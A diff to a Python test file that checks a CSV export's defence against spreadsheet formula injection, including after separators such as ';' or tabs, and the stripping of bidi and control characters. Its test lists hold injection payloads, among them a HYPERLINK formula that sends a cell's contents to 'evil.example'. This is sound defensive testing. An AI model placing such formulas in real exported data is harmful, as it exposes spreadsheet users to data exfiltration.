@@ -9,8 +9,17 @@ from decimal import Decimal
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from core.exports import CsvCell, cell_text, neutralise, write_csv
+from core.exports import (
+    FORMULA_STARTS,
+    SEPARATORS,
+    CsvCell,
+    cell_text,
+    neutralise,
+    write_csv,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -18,20 +27,94 @@ HOSTILE = [
     "+1+1",
     "-2+3",
     "@SUM(1,2)",
-    "\t=1+1",
-    "\r=1+1",
     "  =1+1",
-    "\n@SUM(A1)",
     "＝1+1",
     "-",
+    '"=1+1"',
 ]
-HARMLESS = ["#1001", "Müller", "a=b", "1+1", "email@example.com", "", "Ø 22mm", "'quoted"]
+# A trigger after a separator: each field start that could begin a formula gets its apostrophe.
+MIDDLE = {
+    'Müller;=HYPERLINK("http://evil.example")': 'Müller;\'=HYPERLINK("http://evil.example")',
+    "a,=1+1": "a,'=1+1",
+    "a|@SUM(A1)": "a|'@SUM(A1)",
+    "Ø 22mm\t+1": "Ø 22mm\t'+1",
+    "note\n-1+2": "note\n'-1+2",
+    "x; =1": "x;' =1",
+    'x;"=1"': 'x;\'"=1"',
+    "x;＠A1": "x;'＠A1",
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "\n@SUM(A1)": "'\n'@SUM(A1)",
+    "=1;=2": "'=1;'=2",
+}
+TRIGGERS = "".join(FORMULA_STARTS) + "＝＋－＠"
+SPACES = ' \n\x0b\x0c\u00a0"'
+HARMLESS = [
+    "#1001",
+    "Müller",
+    "a=b",
+    "1+1",
+    "email@example.com",
+    "",
+    "Ø 22mm",
+    "'quoted",
+    "Müller; Schmidt",
+    "a,b|c",
+    "x;'=1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_hostile_cells_get_an_apostrophe(text: str) -> None:
     assert neutralise(text) == "'" + text
     assert cell_text(text) == "'" + text
+
+
+@pytest.mark.parametrize(("text", "safe"), MIDDLE.items())
+def test_a_formula_after_any_separator_is_neutralised(text: str, safe: str) -> None:
+    """German Excel re-splits on `;`, others on `,`, tab or `|`; a line break starts a row."""
+    assert neutralise(text) == safe
+
+
+def _pieces(written: str) -> list[str]:
+    """Every field a spreadsheet could make of `written`, whichever separator it splits on
+    (one of them, or all of them at once)."""
+    pieces = [written]
+    for separator in SEPARATORS:
+        pieces += written.split(separator)
+    for separator in SEPARATORS:
+        written = written.replace(separator, SEPARATORS[0])
+    return pieces + written.split(SEPARATORS[0])
+
+
+def _starts_a_formula(piece: str) -> bool:
+    return piece.lstrip(SPACES).startswith(tuple(TRIGGERS)) or piece.startswith(tuple(TRIGGERS))
+
+
+_HOSTILE_TEXT = st.text(
+    alphabet=st.sampled_from([*TRIGGERS, *SEPARATORS, *SPACES, "a", "1", "'", "(", "é"]),
+    max_size=30,
+)
+
+
+@given(text=_HOSTILE_TEXT | st.text(max_size=30))
+def test_no_field_of_a_neutralised_cell_starts_a_formula(text: str) -> None:
+    written = neutralise(text)
+    assert not any(_starts_a_formula(piece) for piece in _pieces(written)), repr(written)
+    assert written.replace("'", "") == text.replace("'", "")  # only apostrophes are added
+    assert neutralise(written) == written  # idempotent: safe text stays as it is
+
+
+@given(text=_HOSTILE_TEXT)
+def test_no_field_of_a_written_file_starts_a_formula(
+    tmp_path_factory: pytest.TempPathFactory, text: str
+) -> None:
+    """The file as written (quotes doubled, fields quoted by the csv writer) under every split."""
+    target = tmp_path_factory.mktemp("split") / "export.csv"
+    write_csv(target, ["Name"], [[text], [text + ";" + text]], delimiter=",")
+    raw = target.read_text(encoding="utf-8-sig")
+    for piece in _pieces(raw):
+        assert not _starts_a_formula(piece), (piece, raw)
 
 
 @pytest.mark.parametrize("text", HARMLESS)
@@ -81,3 +164,11 @@ def test_a_failed_export_leaves_nothing(tmp_path: Path) -> None:
         write_csv(target, ["A"], rows())
     assert target.read_text() == "previous\n"
     assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]
+
+
+def test_control_and_bidi_characters_do_not_reach_a_cell() -> None:
+    """An order name with a right-to-left override or an escape sequence is exported as the
+    merchant sees it in the window: without them."""
+    assert cell_text("#7101\u202e") == "#7101"
+    assert cell_text("\u2067Acme\u2069 \x1b[2J") == "Acme [2J"
+    assert cell_text("Line\none") == "Line one"
